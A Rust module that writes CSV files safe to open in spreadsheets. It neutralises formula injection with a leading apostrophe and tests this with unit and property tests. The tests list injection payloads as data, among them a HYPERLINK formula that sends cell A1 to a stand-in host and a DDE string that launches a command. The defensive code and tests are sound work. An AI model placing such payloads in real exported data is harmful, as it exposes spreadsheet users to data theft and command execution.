//! CSV after RFC 4180, safe to open in a spreadsheet.
//!
//! A spreadsheet takes a cell that begins with `=`, `+`, `-` or `@` for a formula, and names of services or lines of a log come from
//! outside. Such text gets an apostrophe in front, which spreadsheets show as text. The same is done behind a separator of the other
//! sort inside of a text: a file with commas may be opened by a program that splits at semicolons, and then a cell begins there.
//! Numbers are written by us and never get one.

/// Signs at which a spreadsheet begins a formula; the wide forms are those of Chinese and Japanese keyboards.
const FORMULA: &[char] = &['=', '+', '-', '@', '＝', '＋', '－', '＠'];

/// Signs that begin a formula in some programs when they are the first of a cell, whatever follows.
const FORMULA_FIRST: &[char] = &['\t', '\r', '\n'];

/// How a file is written.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct Style {
    /// Whether numbers have a decimal comma; cells are then separated by semicolons.
    pub is_decimal_comma: bool,
    /// Whether the file begins with the mark by which Excel knows UTF-8.
    pub has_mark: bool,
}

/// The mark.
pub(super) const MARK: &[u8] = "\u{feff}".as_bytes();

impl Style {
    /// What stands between two cells.
    #[must_use]
    pub const fn separator(self) -> char {
        if self.is_decimal_comma { ';' } else { ',' }
    }
}

/// Writes a cell of text.
pub(super) fn put_text(out: &mut Vec<u8>, text: &str, style: Style) {
    let separator = style.separator();
    let is_quoted = text.contains(['"', '\r', '\n', '\t', ',', ';']) || text.starts_with(' ') || text.ends_with(' ');
    if is_quoted {
        out.push(b'"');
    }
    // Whether a cell begins here, for some program.
    let mut is_first = true;
    let mut rest = text.chars();
    if text.starts_with(FORMULA_FIRST) {
        out.push(b'\'');
    }
    while let Some(sign) = rest.next() {
        if is_first && FORMULA.contains(&sign) && !is_plain_dash(sign, rest.as_str()) {
            out.push(b'\'');
        }
        if sign == '"' {
            out.push(b'"');
        }
        out.extend_from_slice(sign.encode_utf8(&mut [0; 4]).as_bytes());
        let is_other_separator = matches!(sign, ';' | ',' | '\t' | '\r' | '\n') && sign != separator;
        // Blanks, quotes and signs without width do not end the beginning of a cell.
        let is_nothing =
            sign.is_whitespace() || sign.is_control() || matches!(sign, '"' | '\'' | '\u{200b}'..='\u{200f}' | '\u{feff}');
        is_first = is_other_separator || (is_first && is_nothing);
    }
    if is_quoted {
        out.push(b'"');
    }
}

/// A dash that stands alone is no formula.
fn is_plain_dash(sign: char, rest: &str) -> bool {
    sign == '-' && rest.is_empty()
}

/// Ends a row.
pub(super) fn end_row(out: &mut Vec<u8>) {
    out.extend_from_slice(b"\r\n");
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;

    const COMMA: Style = Style { is_decimal_comma: false, has_mark: false };
    const SEMICOLON: Style = Style { is_decimal_comma: true, has_mark: false };

    fn text(text: &str, style: Style) -> String {
        let mut out = Vec::new();
        put_text(&mut out, text, style);
        String::from_utf8(out).unwrap()
    }

    /// Rows of cells as a reader sees them that splits at `separator`.
    fn read(file: &[u8], separator: u8) -> Vec<Vec<String>> {
        let mut reader = csv::ReaderBuilder::new().has_headers(false).flexible(true).delimiter(separator).from_reader(file);
        reader.records().map(|row| row.unwrap().iter().map(str::to_owned).collect()).collect()
    }

    fn is_formula(cell: &str) -> bool {
        let shown = cell.trim_start_matches(|sign: char| sign.is_whitespace() || sign.is_control() || sign == '"');
        shown != "-" && shown.starts_with(FORMULA)
    }

    #[test]
    fn text_that_a_spreadsheet_would_calculate_is_made_text() {
        for attack in [
            "=HYPERLINK(\"http://x/?\"&A1,\"see\")",
            "+1+cmd|' /C calc'!A0",
            "-2+3",
            "@SUM(1+1)",
            "\t=1+1",
            "\r=1+1",
            "\n=1+1",
            " =1+1",
            "\"=1+1",
            "\u{feff}=1+1",
            "＝1+1",
        ] {
            for style in [COMMA, SEMICOLON] {
                // Not the first cell of the file: readers take a mark there for that of the encoding.
                let written = format!("x{}{}", style.separator(), text(attack, style));
                let cell = read(written.as_bytes(), style.separator() as u8).remove(0).remove(1);
                assert!(!is_formula(&cell), "{attack:?} became {cell:?}");
                assert_eq!(cell.replace('\'', ""), attack.replace('\'', ""), "nothing else is changed");
            }
        }
    }

    #[test]
    fn a_separator_of_the_other_sort_begins_no_formula_either() {
        for (attack, style, other) in [("x;=1+1", COMMA, b';'), ("x,=1+1", SEMICOLON, b','), ("x\t=1+1", COMMA, b'\t')] {
            let mut line = b"1".to_vec();
            line.push(style.separator() as u8);
            line.extend_from_slice(text(attack, style).as_bytes());
            let cells = read(&line, other).remove(0);
            assert!(cells.iter().all(|cell| !is_formula(cell)), "{cells:?}");
        }
    }

    #[test]
    fn plain_text_is_left_as_it_is() {
        for plain in ["shop", "GET /users/{id}", "a-b", "5+5", "-", "São Paulo", "x=1"] {
            assert_eq!(text(plain, COMMA), plain);
        }
        assert_eq!(text("a,b", COMMA), "\"a,b\"");
        assert_eq!(text("say \"hi\"\r\nbye", COMMA), "\"say \"\"hi\"\"\r\nbye\"");
    }

    proptest! {
        #[test]
        fn what_is_written_reads_back_the_same(rows in prop::collection::vec(prop::collection::vec("[\\PC\"',;\r\n\t=@+ -]{0,12}", 3), 1..6), comma in any::<bool>()) {
            let style = if comma { COMMA } else { SEMICOLON };
            let mut file = Vec::new();
            for row in &rows {
                for (index, cell) in row.iter().enumerate() {
                    if index > 0 {
                        file.push(style.separator() as u8);
                    }
                    put_text(&mut file, cell, style);
                }
                end_row(&mut file);
            }
            let mut found = read(&file, style.separator() as u8);
            // Readers skip empty lines; ours have two separators at least.
            prop_assert_eq!(found.len(), rows.len());
            for (found, row) in found.iter_mut().zip(&rows) {
                for (cell, wanted) in found.iter().zip(row) {
                    prop_assert!(!is_formula(cell), "{:?}", cell);
                    // Apostrophes are all that may have been added.
                    let is_same = cell == wanted;
                    prop_assert!(is_same || cell.replace('\'', "") == wanted.replace('\'', ""), "{:?} became {:?}", wanted, cell);
                    let is_harmless = !wanted.contains(FORMULA) && !wanted.starts_with(FORMULA_FIRST);
                    prop_assert!(is_same || !is_harmless, "{:?} became {:?}", wanted, cell);
                }
            }
        }
    }
}
